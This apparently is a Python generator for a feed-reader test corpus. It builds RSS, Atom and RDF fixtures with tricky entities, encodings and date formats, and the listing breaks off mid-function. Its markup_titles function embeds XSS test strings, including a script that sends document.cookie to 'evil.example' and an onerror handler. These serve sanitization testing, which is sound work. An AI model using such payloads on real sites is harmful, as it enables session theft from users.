#!/usr/bin/env python3
"""Writes the feed fixture corpus: Tests/Fixtures/Feeds/NNN-name.xml plus NNN-name.json with what a feed
reader must get out of it (title, link, date of each item, or the error code for an unreadable feed).

The expected values are the ones this script put into each feed, written down before rendering: a title
rendered with entities, CDATA, markup or an exotic encoding is expected back as the visible text; a date
rendered in some zone and format is expected back as the same instant (or null when the form is ambiguous).
Deterministic (fixed seed). Run from the repository root: python3 Scripts/feeds/generate_corpus.py"""
import base64
import calendar
import json
import os
import random
from xml.sax.saxutils import escape

OUT = "Tests/Fixtures/Feeds"
rng = random.Random(20261124)

WORDS = ["Swift", "Server", "Engineer", "Platform", "Mobile", "Data", "Reliability", "Senior", "Staff",
         "Release", "Notes", "Podcast", "Episode", "Weekly", "Update", "Design", "Kernel", "Cloud", "Review",
         "Guide", "Tips", "Caching", "Feeds", "Network", "Budget", "Retry", "Breaker", "Offline", "Sync"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
FULL_MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September",
               "October", "November", "December"]
DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
ZONES = {"GMT": 0, "UT": 0, "EST": -300, "EDT": -240, "CST": -360, "PDT": -420, "PST": -480, "CET": 60,
         "CEST": 120, "BST": 60, "JST": 540, "AEST": 600, "AEDT": 660, "MET": 60, "MEST": 120, "EET": 120,
         "MSK": 180, "NZST": 720, "HKT": 480, "IST": None}


def title_text():
    return " ".join(rng.choice(WORDS) for _ in range(rng.randint(2, 5)))


def instant():
    return calendar.timegm((rng.randint(1999, 2026), rng.randint(1, 12), rng.randint(1, 28),
                            rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59)))


def parts(t, offset_minutes=0):
    import time
    st = time.gmtime(t + offset_minutes * 60)
    return st


def rfc822(t, zone="GMT"):
    offset = ZONES[zone] or 0
    s = parts(t, offset)
    return "%s, %02d %s %04d %02d:%02d:%02d %s" % (DAYS[s.tm_wday], s.tm_mday, MONTHS[s.tm_mon - 1], s.tm_year,
                                                   s.tm_hour, s.tm_min, s.tm_sec, zone)


def numeric_zone(minutes, colon=False, hour_only=False):
    sign = "+" if minutes >= 0 else "-"
    h, m = divmod(abs(minutes), 60)
    if hour_only:
        return "%s%02d" % (sign, h)
    return "%s%02d%s%02d" % (sign, h, ":" if colon else "", m)


def iso(t, minutes=0, style="colon"):
    s = parts(t, minutes)
    base = "%04d-%02d-%02dT%02d:%02d:%02d" % (s.tm_year, s.tm_mon, s.tm_mday, s.tm_hour, s.tm_min, s.tm_sec)
    if style == "Z":
        return base + "Z"
    if style == "colon":
        return base + (numeric_zone(minutes, colon=True) if minutes else "Z")
    if style == "space":
        return base + " " + numeric_zone(minutes, colon=True)
    if style == "hour":
        return base + numeric_zone(minutes, hour_only=True)
    if style == "nocolon":
        return base.replace("T", " ") + numeric_zone(minutes)
    raise ValueError(style)


def date_form(t, form):
    """(text, expected epoch or None)."""
    s = parts(t)
    if form == "rfc822":
        return rfc822(t), t
    if form == "rfc822-numeric":
        off = rng.choice([-300, 60, 330, -480, 0])
        sl = parts(t, off)
        return "%s, %02d %s %04d %02d:%02d:%02d %s" % (DAYS[sl.tm_wday], sl.tm_mday, MONTHS[sl.tm_mon - 1],
                                                       sl.tm_year, sl.tm_hour, sl.tm_min, sl.tm_sec,
                                                       numeric_zone(off)), t
    if form == "named-zone":
        zone = rng.choice([z for z in ZONES if ZONES[z] is not None])
        return rfc822(t, zone), t
    if form == "ambiguous-zone":
        return rfc822(t, "IST"), None
    if form == "iso-z":
        return iso(t, 0, "Z"), t
    if form == "iso-offset":
        return iso(t, rng.choice([120, -300, 330, 60]), "colon"), t
    if form == "iso-space-zone":
        return iso(t, 60, "space"), t
    if form == "iso-hour-zone":
        return iso(t, rng.choice([2 * 60, -5 * 60]), "hour"), t
    if form == "iso-nocolon":
        return iso(t, -240, "nocolon"), t
    if form == "iso-no-zone":
        return "%04d-%02d-%02dT%02d:%02d:%02d" % (s.tm_year, s.tm_mon, s.tm_mday, s.tm_hour, s.tm_min, s.tm_sec), t
    if form == "iso-reduced":
        return "%04d-%02d" % (s.tm_year, s.tm_mon), calendar.timegm((s.tm_year, s.tm_mon, 1, 0, 0, 0))
    if form == "iso-date":
        return "%04d-%02d-%02d" % (s.tm_year, s.tm_mon, s.tm_mday), calendar.timegm((s.tm_year, s.tm_mon, s.tm_mday, 0, 0, 0))
    if form == "rfc822-date-only":
        return "%s, %02d %s %04d" % (DAYS[s.tm_wday], s.tm_mday, MONTHS[s.tm_mon - 1], s.tm_year), \
            calendar.timegm((s.tm_year, s.tm_mon, s.tm_mday, 0, 0, 0))
    if form == "comma-after-month":
        return "%02d %s, %04d %02d:%02d:%02d +0000" % (s.tm_mday, MONTHS[s.tm_mon - 1], s.tm_year, s.tm_hour,
                                                      s.tm_min, s.tm_sec), t
    if form == "us-order":
        return "%s %d, %04d %02d:%02d:%02d GMT" % (FULL_MONTHS[s.tm_mon - 1], s.tm_mday, s.tm_year, s.tm_hour,
                                                  s.tm_min, s.tm_sec), t
    if form == "asctime":
        return "%s %s %2d %02d:%02d:%02d %04d" % (DAYS[s.tm_wday], MONTHS[s.tm_mon - 1], s.tm_mday, s.tm_hour,
                                                 s.tm_min, s.tm_sec, s.tm_year), t
    if form == "twelve-hour":
        hour = s.tm_hour % 12 or 12
        return "%s, %02d %s %04d %d:%02d:%02d %s GMT" % (DAYS[s.tm_wday], s.tm_mday, MONTHS[s.tm_mon - 1],
                                                        s.tm_year, hour, s.tm_min, s.tm_sec,
                                                        "PM" if s.tm_hour >= 12 else "AM"), t
    if form == "two-digit-year":
        return "%s, %02d %s %02d %02d:%02d:%02d GMT" % (DAYS[s.tm_wday], s.tm_mday, MONTHS[s.tm_mon - 1],
                                                       s.tm_year % 100, s.tm_hour, s.tm_min, s.tm_sec), t
    if form == "slash-ambiguous":
        return "%02d/%02d/%04d" % (rng.randint(1, 6), rng.randint(7, 12), s.tm_year), None
    if form == "garbage":
        return rng.choice(["yesterday", "soon", "n/a", "TBD", "2026-13-45"]), None
    raise ValueError(form)


DATE_FORMS = ["rfc822", "rfc822-numeric", "named-zone", "iso-z", "iso-offset", "iso-space-zone", "iso-hour-zone",
              "iso-nocolon", "iso-no-zone", "iso-reduced", "iso-date", "rfc822-date-only", "comma-after-month",
              "us-order", "asctime", "twelve-hour", "two-digit-year"]
ODD_DATE_FORMS = ["ambiguous-zone", "slash-ambiguous", "garbage"]


class Item:
    def __init__(self, n, host, path="post"):
        self.title = title_text()
        self.slug = "%s-%d" % (self.title.lower().replace(" ", "-"), n)
        self.link = "https://%s/%s/%s" % (host, path, self.slug)
        self.time = instant()
        self.summary = "About " + self.title.lower() + "."

    def expected(self, title=None, link="same", date="same"):
        return {"title": self.title if title is None else title,
                "link": self.link if link == "same" else link,
                "published": self.time if date == "same" else date}


corpus = []


def add(name, xml, items, content_type=None, url=None, encoding="utf-8", error=None):
    data = xml if isinstance(xml, bytes) else xml.encode(encoding)
    corpus.append((name, data, {"contentType": content_type, "url": url, "error": error, "items": items}))


def items_for(host, count=None, path="post"):
    return [Item(i, host, path) for i in range(count or rng.randint(1, 5))]


# ---- Publisher styles ------------------------------------------------------------------------------------

def wordpress(k):
    host = "blog%d.example.com" % k
    its = items_for(host)
    body = "".join("""
	<item>
		<title>%s</title>
		<link>%s</link>
		<comments>%s#respond</comments>
		<dc:creator><![CDATA[admin]]></dc:creator>
		<pubDate>%s</pubDate>
		<category><![CDATA[News]]></category>
		<guid isPermaLink="false">https://%s/?p=%d</guid>
		<description><![CDATA[<p>%s</p><p>The post <a href="%s">%s</a> appeared first on Blog.</p>]]></description>
		<content:encoded><![CDATA[<p>%s</p><script>track()</script>]]></content:encoded>
		<wfw:commentRss>%s/feed/</wfw:commentRss>
		<slash:comments>0</slash:comments>
	</item>""" % (escape(i.title), i.link, i.link, rfc822(i.time, "GMT").replace("GMT", "+0000"), host, 100 + n,
                  i.summary, i.link, escape(i.title), i.summary, i.link) for n, i in enumerate(its))
    xml = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
	xmlns:slash="http://purl.org/rss/1.0/modules/slash/">
<channel>
	<title>Blog %d</title>
	<atom:link href="https://%s/feed/" rel="self" type="application/rss+xml" />
	<link>https://%s</link>
	<description>Just another WordPress site</description>
	<lastBuildDate>%s</lastBuildDate>
	<language>en-US</language>
	<sy:updatePeriod>hourly</sy:updatePeriod>
	<sy:updateFrequency>1</sy:updateFrequency>
	<generator>https://wordpress.org/?v=6.4.2</generator>%s
</channel>
</rss>
""" % (k, host, host, rfc822(instant()), body)
    add("wordpress-%d" % k, xml, [i.expected() for i in its], "application/rss+xml; charset=UTF-8",
        "https://%s/feed/" % host)


def blogger(k):
    host = "team%d.blogspot.com" % k
    its = items_for(host, path="2024/05")
    entries = "".join("""<entry><id>tag:blogger.com,1999:blog-%d.post-%d</id><published>%s</published><updated>%s</updated><category scheme="http://www.blogger.com/atom/ns#" term="news"/><title type='text'>%s</title><content type='html'>&lt;div&gt;%s&lt;/div&gt;</content><link rel='replies' type='application/atom+xml' href='https://www.blogger.com/feeds/%d/%d/comments/default' title='Post Comments'/><link rel='replies' type='text/html' href='%s#comment-form' title='0 Comments'/><link rel='edit' type='application/atom+xml' href='https://www.blogger.com/feeds/%d/posts/default/%d'/><link rel='self' type='application/atom+xml' href='https://www.blogger.com/feeds/%d/posts/default/%d'/><link rel='alternate' type='text/html' href='%s' title='%s'/><author><name>Team</name></author><thr:total>0</thr:total></entry>""" % (
        k, n, iso(i.time, -420), iso(i.time + 3600, -420), escape(i.title), escape(i.summary), k, n, i.link, k, n, k, n,
        i.link, escape(i.title, {"'": "&apos;"})) for n, i in enumerate(its))
    xml = """<?xml version='1.0' encoding='UTF-8'?><?xml-stylesheet href="http://www.blogger.com/styles/atom.css" type="text/css"?><feed xmlns='http://www.w3.org/2005/Atom' xmlns:openSearch='http://a9.com/-/spec/opensearchrss/1.0/' xmlns:blogger='http://schemas.google.com/blogger/2008' xmlns:georss='http://www.georss.org/georss' xmlns:gd="http://schemas.google.com/g/2005" xmlns:thr='http://purl.org/syndication/thread/1.0'><id>tag:blogger.com,1999:blog-%d</id><updated>%s</updated><title type='text'>Team %d</title><link rel='http://schemas.google.com/g/2005#feed' type='application/atom+xml' href='https://%s/feeds/posts/default'/><link rel='self' type='application/atom+xml' href='https://www.blogger.com/feeds/%d/posts/default'/><link rel='alternate' type='text/html' href='https://%s/'/><author><name>Team</name></author><generator version='7.00' uri='http://www.blogger.com'>Blogger</generator><openSearch:totalResults>%d</openSearch:totalResults>%s</feed>""" % (
        k, iso(instant()), k, host, k, host, len(its), entries)
    add("blogger-%d" % k, xml, [i.expected() for i in its], "application/atom+xml; charset=UTF-8")


def medium(k):
    host = "medium.com/@writer%d" % k
    its = items_for(host, path="p")
    body = "".join("""<item><title><![CDATA[%s]]></title><link>%s?source=rss</link><guid isPermaLink="false">https://medium.com/p/%x</guid><category><![CDATA[swift]]></category><dc:creator><![CDATA[Writer]]></dc:creator><pubDate>%s</pubDate><atom:updated>%s</atom:updated><content:encoded><![CDATA[<h3>%s</h3><p>%s</p><img src="https://medium.com/_/stat?event=post.clientViewed" width="1" height="1">]]></content:encoded></item>""" % (
        i.title, i.link, 0xabc000 + n, rfc822(i.time), iso(i.time + 60, 0, "Z").replace("Z", ".000Z"), i.title, i.summary)
        for n, i in enumerate(its))
    xml = """<?xml version="1.0" encoding="UTF-8"?><rss xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:atom="http://www.w3.org/2005/Atom" version="2.0" xmlns:cc="http://cyber.law.harvard.edu/rss/creativeCommonsRssModule.html"><channel><title><![CDATA[Stories by Writer %d on Medium]]></title><description><![CDATA[Stories on Medium]]></description><link>https://%s?source=rss</link><image><url>https://cdn-images-1.medium.com/fit/c/150/150/1.png</url><title>Stories by Writer on Medium</title><link>https://%s</link></image><generator>Medium</generator><lastBuildDate>%s</lastBuildDate><atom:link href="https://%s/feed" rel="self" type="application/rss+xml"/><webMaster><![CDATA[yourfriends@medium.com]]></webMaster><atom:link href="http://medium.superfeedr.com" rel="hub"/>%s</channel></rss>""" % (
        k, host, host, rfc822(instant()), host, body)
    add("medium-%d" % k, xml, [i.expected(link=i.link + "?source=rss") for i in its], "text/xml; charset=utf-8")


def github(k):
    repo = "org%d/project%d" % (k, k)
    its = items_for("github.com/" + repo, path="releases/tag")
    entries = "".join("""
  <entry>
    <id>tag:github.com,2008:Repository/%d/v%d.%d.0</id>
    <updated>%s</updated>
    <link rel="alternate" type="text/html" href="%s"/>
    <title>%s</title>
    <content type="html">&lt;h2&gt;What&amp;#39;s Changed&lt;/h2&gt;&lt;ul&gt;&lt;li&gt;%s&lt;/li&gt;&lt;/ul&gt;</content>
    <author>
      <name>maintainer</name>
    </author>
    <media:thumbnail height="30" width="30" url="https://avatars.githubusercontent.com/u/%d?s=60&amp;v=4"/>
  </entry>""" % (k, k, n, iso(i.time, 0, "Z"), i.link, escape(i.title), escape(i.summary), k) for n, i in enumerate(its))
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/" xml:lang="en-US">
  <id>tag:github.com,2008:https://github.com/%s/releases</id>
  <link type="text/html" rel="alternate" href="https://github.com/%s/releases"/>
  <link type="application/atom+xml" rel="self" href="https://github.com/%s/releases.atom"/>
  <title>Release notes from project%d</title>
  <updated>%s</updated>%s
</feed>
""" % (repo, repo, repo, k, iso(instant(), 0, "Z"), entries)
    add("github-%d" % k, xml, [i.expected() for i in its], "application/atom+xml; charset=utf-8")


def podcast(k):
    host = "pod%d.example.fm" % k
    its = items_for(host, path="episodes")
    body = "".join("""
    <item>
      <title>Episode %d: %s</title>
      <itunes:title>%s</itunes:title>
      <itunes:episode>%d</itunes:episode>
      <itunes:summary>%s</itunes:summary>
      <enclosure url="https://cdn.%s/ep%d.mp3" length="%d" type="audio/mpeg"/>
      <guid>%s</guid>
      <pubDate>%s</pubDate>
      <itunes:duration>00:%02d:00</itunes:duration>
      <itunes:explicit>false</itunes:explicit>
    </item>""" % (n + 1, escape(i.title), escape(i.title), n + 1, escape(i.summary), host, n, 1000000 + n, i.link,
                   rfc822(i.time, rng.choice(["EST", "PST", "GMT", "EDT"])), 30 + n) for n, i in enumerate(its))
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:podcast="https://podcastindex.org/namespace/1.0">
  <channel>
    <title>Podcast %d</title>
    <link>https://%s</link>
    <language>en-us</language>
    <itunes:author>Host</itunes:author>
    <itunes:category text="Technology"/>
    <itunes:image href="https://%s/cover.jpg"/>
    <ttl>60</ttl>%s
  </channel>
</rss>
""" % (k, host, host, body)
    add("podcast-%d" % k, xml, [i.expected(title="Episode %d: %s" % (n + 1, i.title)) for n, i in enumerate(its)],
        "application/rss+xml")


def youtube(k):
    its = items_for("www.youtube.com", path="watch")
    entries = "".join("""
 <entry>
  <id>yt:video:vid%d%d</id>
  <yt:videoId>vid%d%d</yt:videoId>
  <yt:channelId>UC%d</yt:channelId>
  <title>%s</title>
  <link rel="alternate" href="https://www.youtube.com/watch?v=vid%d%d"/>
  <author>
   <name>Channel %d</name>
   <uri>https://www.youtube.com/channel/UC%d</uri>
  </author>
  <published>%s</published>
  <updated>%s</updated>
  <media:group>
   <media:title>%s</media:title>
   <media:content url="https://www.youtube.com/v/vid%d%d?version=3" type="application/x-shockwave-flash" width="640" height="390"/>
   <media:thumbnail url="https://i1.ytimg.com/vi/vid%d%d/hqdefault.jpg" width="480" height="360"/>
   <media:description>%s</media:description>
   <media:community>
    <media:starRating count="10" average="5.00" min="1" max="5"/>
    <media:statistics views="100"/>
   </media:community>
  </media:group>
 </entry>""" % (k, n, k, n, k, escape(i.title), k, n, k, k, iso(i.time, 0, "colon").replace("Z", "+00:00"),
                 iso(i.time + 500, 0, "colon").replace("Z", "+00:00"), escape(i.title), k, n, k, n,
                 escape(i.summary)) for n, i in enumerate(its))
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns:yt="http://www.youtube.com/xml/schemas/2015" xmlns:media="http://search.yahoo.com/mrss/" xmlns="http://www.w3.org/2005/Atom">
 <link rel="self" href="http://www.youtube.com/feeds/videos.xml?channel_id=UC%d"/>
 <id>yt:channel:UC%d</id>
 <yt:channelId>UC%d</yt:channelId>
 <title>Channel %d</title>
 <link rel="alternate" href="https://www.youtube.com/channel/UC%d"/>
 <published>%s</published>%s
</feed>
""" % (k, k, k, k, k, iso(instant(), 0, "colon").replace("Z", "+00:00"), entries)
    add("youtube-%d" % k, xml,
        [dict(i.expected(link="https://www.youtube.com/watch?v=vid%d%d" % (k, n))) for n, i in enumerate(its)],
        "text/xml; charset=UTF-8")


def jobboard(k):
    style = k % 3
    host = "jobs%d.example.org" % k
    its = items_for(host, path="jobs")
    if style == 0:  # Greenhouse-like
        body = "".join("<item><title>%s</title><link>%s</link><guid>%s</guid><pubDate>%s</pubDate><description>&lt;p&gt;%s&lt;/p&gt;</description><location>Remote</location></item>" % (
            escape(i.title), i.link, i.link, rfc822(i.time, rng.choice(["GMT", "CET", "CEST", "EST"])), escape(i.summary)) for i in its)
        xml = '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Jobs at Company %d</title><link>https://%s</link><description>Open roles</description>%s</channel></rss>' % (k, host, body)
        add("jobs-greenhouse-%d" % k, xml, [i.expected() for i in its], "application/rss+xml")
    elif style == 1:  # Stack Overflow Jobs-like: RSS with a10 (Atom) author and categories
        body = "".join('<item><guid isPermaLink="false">%d</guid><link>%s</link><a10:author><a10:name>Company</a10:name></a10:author><category>swift</category><title>%s (Remote)</title><description>%s</description><pubDate>%s</pubDate><a10:updated>%s</a10:updated><location xmlns="http://stackoverflow.com/jobs/">Berlin</location></item>' % (
            9000 + n, i.link, escape(i.title), escape(i.summary), rfc822(i.time, "Z" if False else "GMT").replace("GMT", "Z"), iso(i.time, 0, "Z")) for n, i in enumerate(its))
        xml = '<?xml version="1.0" encoding="utf-8"?><rss xmlns:a10="http://www.w3.org/2005/Atom" version="2.0"><channel><title>Jobs %d</title><link>https://%s</link><description>Jobs</description><os:totalResults xmlns:os="http://a9.com/-/spec/opensearch/1.1/">%d</os:totalResults>%s</channel></rss>' % (k, host, len(its), body)
        add("jobs-stackoverflow-%d" % k, xml, [i.expected(title=i.title + " (Remote)") for i in its], "application/rss+xml; charset=utf-8")
    else:  # Lever/Workable-like Atom with relative links and xml:base
        entries = "".join('<entry><id>urn:lever:%d:%d</id><title type="html">%s &amp;amp; more</title><link rel="alternate" href="jobs/%s"/><link rel="related" href="https://%s/apply/%d"/><published>%s</published><updated>%s</updated><summary type="html">&lt;p&gt;%s&lt;/p&gt;</summary></entry>' % (
            k, n, escape(i.title), i.slug, host, n, iso(i.time, 120, "colon"), iso(i.time + 99, 0, "Z"), escape(i.summary)) for n, i in enumerate(its))
        xml = '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://%s/careers/"><title>Company %d</title><id>urn:lever:%d</id><updated>%s</updated>%s</feed>' % (host, k, k, iso(instant(), 0, "Z"), entries)
        add("jobs-lever-%d" % k, xml,
            [i.expected(title=i.title + " & more", link="https://%s/careers/jobs/%s" % (host, i.slug)) for i in its],
            "application/atom+xml")


def rdf(k):
    host = "news%d.example.net" % k
    its = items_for(host, path="story")
    body = "".join('<item rdf:about="%s"><title>%s</title><link>%s</link><description>%s</description><dc:creator>ed</dc:creator><dc:date>%s</dc:date><dc:subject>tech</dc:subject></item>' % (
        i.link, escape(i.title), i.link, escape(i.summary), iso(i.time, rng.choice([0, 60, -300]), "colon")) for i in its)
    seq = "".join('<rdf:li rdf:resource="%s"/>' % i.link for i in its)
    xml = '<?xml version="1.0" encoding="ISO-8859-1"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:syn="http://purl.org/rss/1.0/modules/syndication/"><channel rdf:about="https://%s/"><title>News %d</title><link>https://%s/</link><description>News</description><syn:updatePeriod>hourly</syn:updatePeriod><syn:updateFrequency>1</syn:updateFrequency><items><rdf:Seq>%s</rdf:Seq></items></channel>%s</rdf:RDF>' % (host, k, host, seq, body)
    add("rdf-%d" % k, xml, [i.expected() for i in its], None, None, "iso-8859-1")


def atom03(k):
    host = "old%d.example.org" % k
    its = items_for(host, path="archives")
    entries = ""
    for n, i in enumerate(its):
        mode = ["xml", "escaped", "base64"][n % 3]
        if mode == "base64":
            content = '<content type="text/html" mode="base64">%s</content>' % base64.b64encode(("<p>%s</p>" % i.summary).encode()).decode()
        elif mode == "escaped":
            content = '<content type="text/html" mode="escaped">&lt;p&gt;%s&lt;/p&gt;</content>' % escape(i.summary)
        else:
            content = '<content type="application/xhtml+xml" mode="xml"><div xmlns="http://www.w3.org/1999/xhtml"><p>%s</p></div></content>' % escape(i.summary)
        entries += '<entry><title>%s</title><link rel="alternate" type="text/html" href="%s"/><link rel="service.edit" type="application/x.atom+xml" href="https://%s/edit/%d"/><id>tag:%s,2004:%d</id><issued>%s</issued><modified>%s</modified><created>%s</created>%s</entry>' % (
            escape(i.title), i.link, host, n, host, n, iso(i.time, -300, "colon"), iso(i.time + 10, 0, "Z"), iso(i.time, 0, "Z"), content)
    xml = '<?xml version="1.0" encoding="utf-8"?><feed version="0.3" xmlns="http://purl.org/atom/ns#" xml:lang="en"><title mode="escaped">Old %d</title><link rel="alternate" type="text/html" href="https://%s/"/><modified>%s</modified><tagline>old</tagline><generator url="http://www.movabletype.org/" version="3.2">Movable Type</generator>%s</feed>' % (k, host, iso(instant(), 0, "Z"), entries)
    add("atom03-%d" % k, xml, [i.expected() for i in its], "application/atom+xml")


def prefixed(k):
    host = "prefix%d.example.com" % k
    its = items_for(host)
    if k % 2 == 0:
        body = "".join("<r:item><r:title>%s</r:title><r:link>%s</r:link><r:pubDate>%s</r:pubDate></r:item>" % (escape(i.title), i.link, rfc822(i.time)) for i in its)
        xml = '<?xml version="1.0"?><r:rss xmlns:r="http://backend.userland.com/rss2" version="2.0"><r:channel><r:title>P</r:title>%s</r:channel></r:rss>' % body
    else:
        body = "".join('<atom:entry><atom:title>%s</atom:title><atom:id>urn:x:%d</atom:id><atom:link rel="alternate" href="%s"/><atom:updated>%s</atom:updated></atom:entry>' % (escape(i.title), n, i.link, iso(i.time, 0, "Z")) for n, i in enumerate(its))
        xml = '<?xml version="1.0"?><atom:feed xmlns:atom="http://www.w3.org/2005/Atom"><atom:title>P</atom:title>%s</atom:feed>' % body
    add("prefixed-%d" % k, xml, [i.expected() for i in its], "application/xml")


ENTITY_SAMPLES = [("&rArr;", "⇒"), ("&alpha;", "α"), ("&mdash;", "—"), ("&hellip;", "…"), ("&nbsp;", " "),
                  ("&eacute;", "é"), ("&trade;", "™"), ("&larr;", "←"), ("&Oslash;", "Ø"), ("&frac12;", "½"),
                  ("&check;", "✓"), ("&starf;", "★"), ("&ctdot;", "⋯"), ("&NotEqualTilde;", "≂̸")]


def entities(k):
    host = "ent%d.example.com" % k
    its = items_for(host)
    expected = []
    rendered = []
    for n, i in enumerate(its):
        choice = rng.random()
        if choice < 0.6:
            ent, char = rng.choice(ENTITY_SAMPLES)
            raw = "%s %s %s" % (escape(i.title), ent, "x")
            visible = "%s %s x" % (i.title, char) if char != " " else "%s x" % i.title
        else:
            raw = "%s &bogus%d; tail" % (escape(i.title), n)
            visible = "%s tail" % i.title
        rendered.append("<item><title>%s</title><link>%s</link><pubDate>%s</pubDate></item>" % (raw, i.link, rfc822(i.time)))
        expected.append(i.expected(title=" ".join(visible.split())))
    xml = '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Entities %d</title>%s</channel></rss>' % (k, "".join(rendered))
    add("entities-%d" % k, xml, expected, "application/rss+xml")


ENCODINGS = [("IBM437", "cp437"), ("IBM850", "cp850"), ("IBM852", "cp852"), ("IBM855", "cp855"),
             ("IBM857", "cp857"), ("IBM860", "cp860"), ("IBM861", "cp861"), ("IBM862", "cp862"),
             ("IBM863", "cp863"), ("IBM865", "cp865"), ("IBM866", "cp866"), ("macintosh", "mac_roman"),
             ("x-mac-greek", "mac_greek"), ("x-mac-turkish", "mac_turkish"), ("x-mac-cyrillic", "mac_cyrillic"),
             ("windows-1250", "cp1250"), ("windows-1251", "cp1251"), ("windows-1252", "cp1252"),
             ("windows-1253", "cp1253"), ("windows-1254", "cp1254"), ("windows-1255", "cp1255"),
             ("windows-1256", "cp1256"), ("windows-1257", "cp1257"), ("windows-1258", "cp1258"),
             ("ISO-8859-1", "latin_1"), ("ISO-8859-2", "iso8859_2"), ("ISO-8859-4", "iso8859_4"),
             ("ISO-8859-5", "iso8859_5"), ("ISO-8859-7", "iso8859_7"), ("ISO-8859-9", "iso8859_9"),
             ("ISO-8859-13", "iso8859_13"), ("ISO-8859-15", "iso8859_15"), ("KOI8-R", "koi8_r"),
             ("KOI8-U", "koi8_u"), ("UTF-16", "utf-16"), ("UTF-16LE", "utf-16-le"), ("UTF-16BE", "utf-16-be"),
             ("UTF-32", "utf-32"), ("Shift_JIS", "shift_jis"), ("GB18030", "gb18030"), ("Big5", "big5"),
             ("EUC-KR", "euc_kr")]
NATIVE = ["Café Größe", "Développeur senior", "Разработчик Swift", "Μηχανικός λογισμικού", "Geliştirici ağ",
          "Inżynier łódź", "מפתח תוכנה", "مهندس برمجيات", "Kỹ sư phần mềm", "Ingeniør på Ø", "Naïve résumé",
          "ソフトウェア技術者", "软件工程师", "소프트웨어 엔지니어", "Järvi ja säde", "Žluťoučký kůň"]


def encoded(k):
    label, codec = ENCODINGS[k % len(ENCODINGS)]
    host = "enc%d.example.com" % k
    its = items_for(host, rng.randint(1, 3))
    # Python's big5 codec also encodes kana from the ETEN extension, which standard Big5 converters lack.
    pool = ["軟體工程師", "資深後端工程師"] if codec == "big5" else NATIVE
    candidates = [w for w in pool if can_encode(w, codec)] or ["Plain title"]
    for i in its:
        i.title = rng.choice(candidates) + " " + str(rng.randint(1, 99))
    mode = k // len(ENCODINGS)  # 0: declaration, 1: Content-Type over a wrong declaration, 2: BOM/declaration
    body = "".join("<item><title>%s</title><link>%s</link><pubDate>%s</pubDate></item>" % (escape(i.title), i.link, rfc822(i.time)) for i in its)
    declared = label if mode != 1 else "ISO-8859-1"
    xml = '<?xml version="1.0" encoding="%s"?><rss version="2.0"><channel><title>Encoded</title>%s</channel></rss>' % (declared, body)
    data = xml.encode(codec)
    content_type = "application/rss+xml; charset=%s" % label if mode == 1 else "application/rss+xml"
    if label.startswith("UTF-16") or label.startswith("UTF-32"):
        content_type = None if mode != 1 else content_type
    add("encoding-%s-%d" % (label.lower(), k), data, [i.expected() for i in its], content_type)


def can_encode(text, codec):
    try:
        text.encode(codec)
        return True
    except UnicodeEncodeError:
        return False


def dates(k):
    host = "dates%d.example.com" % k
    forms = DATE_FORMS + ODD_DATE_FORMS
    its = items_for(host, 3)
    expected = []
    body = ""
    for n, i in enumerate(its):
        form = forms[(k * 3 + n) % len(forms)]
        text, value = date_form(i.time, form)
        element = rng.choice(["pubDate", "dc:date", "dcterms:issued", "dcterms:created"])
        if form.startswith("iso") is False and element != "pubDate":
            element = "pubDate"
        body += "<item><title>%s</title><link>%s</link><%s>%s</%s></item>" % (escape(i.title), i.link, element, text, element)
        expected.append(i.expected(date=value))
    xml = '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/"><channel><title>Dates %d</title>%s</channel></rss>' % (k, body)
    add("dates-%d" % k, xml, expected, "application/rss+xml")


def markup_titles(k):
    host = "xss%d.example.com" % k
    its = items_for(host, 2)
    body = ""
    expected = []
    for n, i in enumerate(its):
        if n == 0:
            raw = "&lt;script&gt;location.href='https://evil.example/'+document.cookie&lt;/script&gt;%s" % escape(i.title)
        else:
            raw = "<![CDATA[<b>%s</b><style>b{color:red}</style> <script type=\"text/javascript\">alert(1)</script>]]>" % i.title
        body += "<item><title>%s</title><link>%s</link><guid>%s</guid><pubDate>%s</pubDate><description>&lt;img src=x onerror=alert(1)&gt;%s</description></item>" % (raw, i.link, i.link, rfc822(i.time), escape(i.summary))
        expected.append(i.expected())
    if k % 2:
        entries = "".join('<entry><id>urn:%d</id><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">%s<script>steal()</script></div></title><link href="%s"/><updated>%s</updated></entry>' % (n, escape(i.title), i.link, iso(i.time, 0, "Z")) for n, i in enumerate(its))
        xml = '<feed xmlns="http://www.w3.org/2005/Atom"><title>X</title>%s</feed>' % entries
    else:
        xml = '<rss version="2.0"><channel><title>X</title>%s</channel></rss>' % body
    add("markup-titles-%d" % k, xml, expected, "application/xml")


def relative(k):
    host = "rel%d.example.com" % k
    its = items_for(host, 3)
    url = "https://%s/blog/feed.xml" % host
    if k % 2:
